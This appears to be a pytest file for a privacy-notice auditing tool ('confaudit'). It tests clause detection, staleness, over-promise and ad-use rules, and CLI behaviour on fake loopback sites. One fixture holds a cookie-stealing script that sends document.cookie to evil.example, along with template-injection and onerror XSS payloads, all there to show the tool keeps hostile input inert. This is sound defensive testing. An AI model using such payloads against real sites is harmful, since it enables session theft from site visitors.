"""The policy check on real loopback sites and on recorded evidence, and `confaudit policy`."""

from __future__ import annotations

import html as htmllib
import json
import time
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from confaudit_checks.policy import CHECK, CLAUSE_BUDGET, stale_finding

from confaudit.analysis.policytext import CLAUSES, analyse, extract_text
from confaudit.demo.pdf import text_pdf
from confaudit.demo.server import Reply, Site
from confaudit.model import (
    CheckResult,
    CheckStatus,
    CrawlEvidence,
    Evidence,
    FindingStatus,
    HttpExchange,
    Page,
    PageKind,
    Severity,
    Target,
)
from confaudit.results.scoring import score_check
from tests.conftest import page, run_cli

FIX = Path(__file__).parent / "fixtures" / "policy"
FETCHED = datetime(2025, 6, 1, 12, 0, tzinfo=UTC)
HOME = '<h1>Welcome</h1><p>Counselling in Bristol.</p><footer><a href="/privacy">Privacy notice</a></footer>'


def md_html(text: str) -> str:
    """Markdown-ish text as HTML paragraphs and headings (escaped: fixtures are text, not markup)."""
    out = []
    for line in text.splitlines():
        line = line.strip()
        if not line:
            continue
        if line.startswith("#"):
            level = min(len(line) - len(line.lstrip("#")), 3)
            out.append(f"<h{level}>{htmllib.escape(line.lstrip('#').strip())}</h{level}>")
        else:
            out.append(f"<p>{htmllib.escape(line.lstrip('-* '))}</p>")
    return "\n".join(out)


def fixture_html(name: str) -> str:
    return md_html((FIX / name).read_text(encoding="utf-8"))


def html_reply(body: str, title: str = "Privacy notice") -> Reply:
    return page(f"<main>{body}</main>", title=title)


def policy_result(run) -> CheckResult:
    return next(c for c in run.result.checks if c.check == "policy")


def by_rule(result: CheckResult) -> dict:
    return {f.rule: f for f in result.findings}


def audit_site(serve, host: str, routes: dict, **kw):
    served = serve(Site(host=host, routes=routes))
    run = served.audit(f"https://{host}/", checks=["policy"], browser="never", **kw)
    return policy_result(run)


def evidence_for(*docs: tuple[str, bytes, str]) -> Evidence:
    """Recorded crawl evidence with the given policy pages (url, body, content type)."""
    pages = [
        Page(
            url=url,
            kind=PageKind.POLICY,
            exchange=HttpExchange(url=url, status=200, content_type=ct, body=body, fetched_at=FETCHED),
            is_pdf="pdf" in ct,
        )
        for url, body, ct in docs
    ]
    crawl = CrawlEvidence(start_url="https://p.example/", pages=pages)
    return Evidence(target=Target("https://p.example/"), parts={"crawl": crawl})


def judged(*docs: tuple[str, bytes, str]) -> CheckResult:
    result = CHECK.run(evidence_for(*docs), None)
    score_check(result)
    return result


def text_doc(name: str) -> tuple[str, bytes, str]:
    return (f"https://p.example/{name}", fixture_html(name).encode(), "text/html; charset=utf-8")


# ------------------------------------------------------------------------------------------ loopback


def test_notice_found_and_judged_with_quotes(serve):
    result = audit_site(
        serve,
        "good.example",
        {"/": page(HOME), "/privacy": html_reply(fixture_html("complete_notice.md"))},
    )
    assert result.status == CheckStatus.OK, result.reason
    rules = by_rule(result)
    assert rules["policy/not-found"].status == FindingStatus.PASS
    for cid in ("confidentiality_commitment", "limits_risk_of_harm", "retention_period"):
        f = rules[f"policy/missing/{cid}"]
        assert f.status == FindingStatus.PASS
        assert f.evidence and f.evidence[0].kind == "quote"
        assert f.evidence[0].url == "https://good.example/privacy"
        assert f.evidence[0].data["clause"] == cid and f.evidence[0].data["heading"]
    clauses = result.data["clauses"]
    assert len(clauses) == 24 and all({"status", "quotes", "attrs"} <= set(v) for v in clauses.values())
    assert result.score is not None and result.score >= 90
    assert len(result.findings) == len(CHECK.rules)  # every rule emits a finding


def test_not_found_is_critical_with_urls_tried(serve):
    result = audit_site(serve, "none.example", {"/": page("<h1>Hello</h1><p>We offer counselling.</p>")})
    rules = by_rule(result)
    nf = rules["policy/not-found"]
    assert nf.status == FindingStatus.FAIL and nf.severity == Severity.CRITICAL
    tried = [e.url for e in nf.evidence]
    assert "https://none.example/privacy" in tried and "https://none.example/privacy-policy" in tried
    assert result.data["urls_tried"] == tried
    assert result.score == 0  # never better than a poor notice
    assert rules["policy/missing/limits_risk_of_harm"].status == FindingStatus.FAIL


def test_pdf_notice(serve):
    lines = (FIX / "heldout_uk_sole_trader.txt").read_text(encoding="utf-8").splitlines()
    pdf = text_pdf(lines)
    home = '<p>Hello</p><a href="/docs/privacy-notice.pdf">Privacy notice (PDF)</a>'
    result = audit_site(
        serve,
        "pdf.example",
        {"/": page(home), "/docs/privacy-notice.pdf": Reply(200, [("Content-Type", "application/pdf")], pdf)},
    )
    assert result.status == CheckStatus.OK, result.reason
    rules = by_rule(result)
    risk = rules["policy/missing/limits_risk_of_harm"]
    assert risk.status == FindingStatus.PASS
    assert risk.evidence[0].url == "https://pdf.example/docs/privacy-notice.pdf"
    assert rules["policy/stale"].status in (FindingStatus.PASS, FindingStatus.FAIL)
    assert result.data["last_updated"] == "2025-01-14"


def test_broken_pdf_is_a_recorded_problem_not_a_crash(serve):
    home = '<a href="/privacy.pdf">Privacy policy</a>'
    result = audit_site(
        serve,
        "brokenpdf.example",
        {
            "/": page(home),
            "/privacy.pdf": Reply(200, [("Content-Type", "application/pdf")], b"%PDF-1.4\nnot really"),
        },
    )
    assert result.status == CheckStatus.OK, result.reason
    rules = by_rule(result)
    assert rules["policy/not-found"].status == FindingStatus.PASS
    bad = rules["policy/unreadable"]
    assert bad.status == FindingStatus.FAIL and "privacy.pdf" in bad.evidence[0].text


def test_notice_split_across_two_pages_is_merged(serve):
    part1 = md_html(
        "# Confidentiality\nWhat you say in sessions is kept confidential.\n"
        "If you are at serious risk of harming yourself or others, I may contact your GP.\n"
    )
    part2 = md_html(
        "# Cookie policy\nThis website uses Google Analytics cookies to measure visits, only with your consent.\n"
    )
    home = '<a href="/privacy">Privacy</a> <a href="/cookie-policy">Cookie policy</a>'
    result = audit_site(
        serve,
        "split.example",
        {
            "/": page(home),
            "/privacy": html_reply(part1),
            "/cookie-policy": html_reply(part2, "Cookie policy"),
        },
    )
    rules = by_rule(result)
    conf = rules["policy/missing/confidentiality_commitment"]
    cookies = rules["policy/missing/cookies_tracking"]
    assert conf.status == cookies.status == FindingStatus.PASS
    assert conf.evidence[0].url == "https://split.example/privacy"
    assert cookies.evidence[0].url == "https://split.example/cookie-policy"
    assert set(result.data["urls"]) == {
        "https://split.example/privacy",
        "https://split.example/cookie-policy",
    }


def test_non_english_notice_is_skipped(serve):
    fr = md_html(
        "# Politique de confidentialité\nNous respectons votre vie privée et vos données sont protégées.\n"
        "Les informations que vous nous donnez sont confidentielles et ne sont pas partagées avec des tiers "
        "sans votre accord. Vous pouvez demander une copie de vos données à tout moment par courriel.\n"
    )
    result = audit_site(serve, "fr.example", {"/": page(HOME), "/privacy": html_reply(fr, "Confidentialité")})
    assert result.status == CheckStatus.SKIPPED
    assert "not in English" in (result.reason or "") and "fr" in (result.reason or "")
    assert result.score is None


def test_huge_notice_in_bounded_time(serve):
    para = (FIX / "heldout_uk_sole_trader.txt").read_text(encoding="utf-8")
    body = md_html(para) * 700 + "<p>" + "x" * 200_000 + "</p>"  # ~2 MB plus one very long line
    assert len(body) > 1_500_000
    t0 = time.perf_counter()
    result = audit_site(serve, "huge.example", {"/": page(HOME), "/privacy": html_reply(body)})
    assert time.perf_counter() - t0 < 30
    assert result.status == CheckStatus.OK
    assert result.duration_s < 15
    quote = by_rule(result)["policy/missing/retention_period"].evidence[0]
    assert len(quote.text) <= 600


HOSTILE = """
<script>document.cookie='stolen'; fetch('https://evil.example/?'+document.cookie)</script>
<style>body{display:none}</style>
<h2>Confidentiality {{ config.SECRET }}</h2>
<p>What you say is kept confidential &lt;script&gt;alert(1)&lt;/script&gt; {{ 7*7 }} {% include 'x' %} [bold red]boom[/].</p>
<p>Your sessions are 100% secure ${7*7} <img src=x onerror=alert(2)>.</p>
<div hidden>We sell your data to advertising partners.</div>
"""


def test_hostile_text_stays_inert(serve):
    result = audit_site(serve, "hostile.example", {"/": page(HOME), "/privacy": html_reply(HOSTILE)})
    rules = by_rule(result)
    conf = rules["policy/missing/confidentiality_commitment"]
    q = conf.evidence[0]
    assert "<script>alert(1)</script>" in q.text and "{{ 7*7 }}" in q.text and "[bold red]" in q.text
    assert q.data["heading"] == "Confidentiality {{ config.SECRET }}"
    dumped = json.dumps([[f.summary, [(e.text, e.data) for e in f.evidence]] for f in result.findings])
    assert "document.cookie" not in dumped and "stolen" not in dumped  # scripts are dropped, not quoted
    assert "49" not in dumped  # nothing was evaluated
    assert rules["policy/ad-use-disclosed"].status == FindingStatus.PASS  # hidden text is not the notice
    assert rules["policy/over-promise"].status == FindingStatus.FAIL


# ------------------------------------------------------------------------------------------ rules on evidence


def _notice(body: str) -> tuple[str, bytes, str]:
    return ("https://p.example/privacy", md_html(body).encode(), "text/html")


def test_stale_undated_and_old_and_current():
    undated = judged(
        _notice("# Privacy\nWe keep your notes confidential and never share them without consent.")
    )
    assert by_rule(undated)["policy/stale"].status == FindingStatus.FAIL
    old = judged(_notice("# Privacy\nLast updated: 2 January 2019\nWe keep your notes confidential always."))
    f = by_rule(old)["policy/stale"]
    assert (
        f.status == FindingStatus.FAIL and f.severity == Severity.MEDIUM
    )  # over five years before the fetch
    recent = (FETCHED.date() - timedelta(days=200)).strftime("%d %B %Y")
    ok = judged(
        _notice(f"# Privacy\nLast updated: {recent}\nWe keep your notes confidential, as the law allows.")
    )
    assert by_rule(ok)["policy/stale"].status == FindingStatus.PASS


def test_stale_is_judged_against_fetch_time_not_wall_clock():
    doc = extract_text("Last updated: 1 March 2020\nWe keep your notes confidential.", "u")
    a = analyse(doc)
    early = stale_finding(a, doc, datetime(2021, 1, 1, tzinfo=UTC))
    late = stale_finding(a, doc, datetime(2023, 1, 1, tzinfo=UTC))
    assert early.status == FindingStatus.PASS and late.status == FindingStatus.FAIL
    unknown = stale_finding(a, doc, None)  # no fetch time recorded: not judged against today's date
    assert unknown.status == FindingStatus.INFO and "no fetch time" in unknown.summary


def test_outdated_law_makes_a_notice_stale():
    text = f"# Privacy\nLast updated: {FETCHED.date():%d %B %Y}\nWe comply with the Data Protection Act 1998."
    f = by_rule(judged(_notice(text)))["policy/stale"]
    assert f.status == FindingStatus.FAIL and "Data Protection Act 1998".lower() in f.summary.lower()


def test_over_promise_quoted():
    f = by_rule(judged(_notice("# Security\nOur platform is 100% secure and cannot be hacked.")))[
        "policy/over-promise"
    ]
    assert f.status == FindingStatus.FAIL and "100% secure" in f.evidence[0].text


def test_ad_use_disclosed_is_high():
    res = judged(text_doc("heldout_app_bullets.md"))
    f = by_rule(res)["policy/ad-use-disclosed"]
    assert f.status == FindingStatus.FAIL and f.severity == Severity.HIGH
    assert any("advertising partners" in e.text for e in f.evidence)
    assert res.data["clauses"]["sale_or_ad_sharing"]["attrs"]["polarity"] == "discloses_ad_use"


def test_vague_clause_is_one_level_lower_and_a_warning():
    res = judged(text_doc("vague_notice.md"))
    f = by_rule(res)["policy/vague/limits_risk_of_harm"]
    assert f.status == FindingStatus.WARN and f.severity == Severity.MEDIUM
    assert by_rule(res)["policy/missing/limits_risk_of_harm"].status == FindingStatus.PASS


def test_score_is_capped_and_decent_notices_score_well():
    complete = judged(text_doc("complete_notice.md"))
    sparse = judged(
        _notice("# Privacy\nLast updated: 1 May 2025\nWe respect your privacy. Email hi@p.example.")
    )
    decent = judged(text_doc("heldout_uk_sole_trader.txt"))
    assert complete.score == 100
    assert decent.score is not None and decent.score >= 75
    clause_points = sum(
        d.points for d in sparse.deductions if d.rule.startswith(("policy/missing", "policy/vague"))
    )
    assert clause_points == CLAUSE_BUDGET  # the sparse notice's clause gaps exceed the budget
    trimmed = [d for d in sparse.deductions if "limited: clause findings" in d.reason]
    assert trimmed and all(d.rule.startswith(("policy/missing", "policy/vague")) for d in trimmed)
    # every clause finding keeps its real severity; none is hidden as info
    gaps = [f for f in sparse.findings if f.failed and f.rule.startswith("policy/missing/")]
    assert gaps and all(
        f.severity != Severity.INFO for f in gaps if f.rule != "policy/missing/data_residency_claim"
    )
    assert sparse.score is not None and 30 <= sparse.score <= 40


def test_javascript_only_notice_is_unreadable_not_all_missing():
    res = judged(
        (
            "https://p.example/privacy",
            b"<html><body><div id=app></div><script>x()</script></body></html>",
            "text/html",
        )
    )
    rules = by_rule(res)
    assert rules["policy/unreadable"].status == FindingStatus.FAIL
    assert rules["policy/missing/limits_risk_of_harm"].status == FindingStatus.INFO


JS_ONLY = (
    "https://p.example/privacy",
    b"<html><body><div id=app></div><script>x()</script></body></html>",
    "text/html",
)
NOTICE_WIDE = ["policy/ad-use-disclosed", "policy/stale", "policy/over-promise", "policy/readability"]


def test_every_situation_reports_every_rule_once_in_declaration_order():
    declared = [r.id for r in CHECK.rules]
    clause_ids = [f"policy/{kind}/{cid}" for cid in CLAUSES for kind in ("missing", "vague")]
    assert declared == ["policy/not-found", "policy/unreadable", *clause_ids, *NOTICE_WIDE]
    absent, unreadable, read = (
        CHECK.run(evidence_for(), None),
        CHECK.run(evidence_for(JS_ONLY), None),
        CHECK.run(evidence_for(text_doc("complete_notice.md")), None),
    )
    for result in (absent, unreadable, read):
        assert result.status == CheckStatus.OK, result.reason
        assert [f.rule for f in result.findings] == declared
    # rules about the notice's text say they could not judge it, and why, rather than pass or fail
    for result, why in ((absent, "no notice was found"), (unreadable, "the notice could not be read")):
        rules = by_rule(result)
        assert all(rules[r].status == FindingStatus.INFO for r in NOTICE_WIDE)
        assert {rules[r].summary for r in NOTICE_WIDE} == {f"Not assessed: {why}."}
    assert {by_rule(unreadable)[r].summary for r in clause_ids} == {
        "Not assessed: the notice could not be read."
    }
    assert list(absent.data) == ["found", "urls_tried", "clauses"] and absent.data["found"] is False
    assert (
        list(unreadable.data) == ["found", "pages", "problems", "clauses"]
        and unreadable.data["clauses"] == {}
    )
    assert read.data["found"] is True and set(read.data["clauses"]) == set(CLAUSES)
    assert read.data["clause_budget"] == CLAUSE_BUDGET and read.data["judged_at"].startswith("2025-06-01")


SCENARIOS = [
    "complete_notice.md",
    "vague_notice.md",
    "unrelated_terms.txt",
    "heldout_app_bullets.md",
    "heldout_uk_sole_trader.txt",
    "heldout_eu_platform.md",
]


def test_every_rule_seen_failing_and_passing():
    seen: dict[str, set[str]] = {r.id: set() for r in CHECK.rules}
    results = [judged(text_doc(name)) for name in SCENARIOS]
    results.append(CHECK.run(evidence_for(), None))  # not found
    results.append(judged(("https://p.example/p.pdf", b"%PDF-1.4 broken", "application/pdf")))
    results.append(judged(_notice("# Privacy\nLast updated: 1 May 2025\nOur service is 100% secure.")))
    for res in results:
        for f in res.findings:
            seen[f.rule].add("fail" if f.failed else f.status.value)
    # severity info by design; recording is a yes/no fact the detector never calls vague
    never_fail = {
        "policy/readability",
        "policy/missing/data_residency_claim",
        "policy/vague/session_recording",
    }
    for rule, statuses in seen.items():
        assert "pass" in statuses or rule in never_fail, (rule, statuses)
        assert "fail" in statuses or rule in never_fail, (rule, statuses)


# ------------------------------------------------------------------------------------------ CLI


def test_cli_policy_on_a_file_json_shape(tmp_path):
    out = tmp_path / "notice.json"
    proc = run_cli("policy", str(FIX / "heldout_eu_platform.md"), "--json", str(out))
    assert proc.returncode == 0, proc.stderr
    data = json.loads(out.read_text(encoding="utf-8"))
    assert set(data["clauses"]) == set(CLAUSES)
    for entry in data["clauses"].values():
        assert set(entry) == {"status", "quotes", "attrs"}
        assert entry["status"] in ("present", "partial", "absent")
        assert all(set(q) == {"text", "heading", "url"} for q in entry["quotes"])
    assert data["clauses"]["encryption_security"]["attrs"]["e2e_claimed"] is True


def test_cli_policy_table_prints_hostile_text_literally(tmp_path):
    f = tmp_path / "draft.md"
    f.write_text(
        "# Confidentiality\nWhat you say is kept confidential [bold red]boom[/] {{ 7*7 }}.\n",
        encoding="utf-8",
    )
    proc = run_cli("policy", str(f), env={"COLUMNS": "250"})
    assert proc.returncode == 0, proc.stderr
    assert "[bold red]boom[/]" in proc.stdout and "{{ 7*7 }}" in proc.stdout
    assert "confidentiality_commitment" in proc.stdout and "present" in proc.stdout


def test_cli_policy_on_a_pdf_file(tmp_path):
    f = tmp_path / "notice.pdf"
    f.write_bytes(text_pdf((FIX / "heldout_uk_sole_trader.txt").read_text(encoding="utf-8").splitlines()))
    proc = run_cli("policy", str(f), "--json", "-")
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["clauses"]["limits_safeguarding"]["status"] == "present"


@pytest.mark.parametrize("arg", ["/no/such/notice.html", "ftp://example.com/privacy", "https://"])
def test_cli_policy_usage_errors_exit_2(arg):
    proc = run_cli("policy", arg)
    assert proc.returncode == 2, (proc.stdout, proc.stderr)
    assert len(proc.stderr.strip().splitlines()) == 1 and "Traceback" not in proc.stderr


def test_cli_policy_unreachable_url_exits_3():
    proc = run_cli("policy", "https://nowhere.example/privacy", "--only-resolved", "--timeout", "2")
    assert proc.returncode == 3, (proc.stdout, proc.stderr)
    assert "Traceback" not in proc.stderr


def test_cli_policy_on_a_url(serve, tmp_path):
    served = serve(
        Site(host="url.example", routes={"/privacy": html_reply(fixture_html("complete_notice.md"))})
    )
    out = tmp_path / "r.json"
    proc = run_cli("policy", "https://url.example/privacy", "--json", str(out), *served.cli_args())
    assert proc.returncode == 0, proc.stderr
    data = json.loads(out.read_text(encoding="utf-8"))
    assert data["urls"] == ["https://url.example/privacy"]
    assert all(v["status"] == "present" for v in data["clauses"].values())
    missing = run_cli("policy", "https://url.example/nothing-here", *served.cli_args())
    assert missing.returncode == 3 and "404" in missing.stderr


def test_fetch_time_used_for_recheck_determinism():
    # the same evidence judged twice gives the same findings, whatever the wall clock says
    ev = evidence_for(_notice("# Privacy\nLast updated: 1 March 2024\nWe keep your notes confidential."))
    a = [(f.rule, f.status, f.summary) for f in CHECK.run(ev, None).findings]
    b = [(f.rule, f.status, f.summary) for f in CHECK.run(ev, None).findings]
    assert a == b
    assert CHECK.run(ev, None).data["judged_at"].startswith("2025-06-01")
    assert date.fromisoformat(CHECK.run(ev, None).data["last_updated"]) == date(2024, 3, 1)
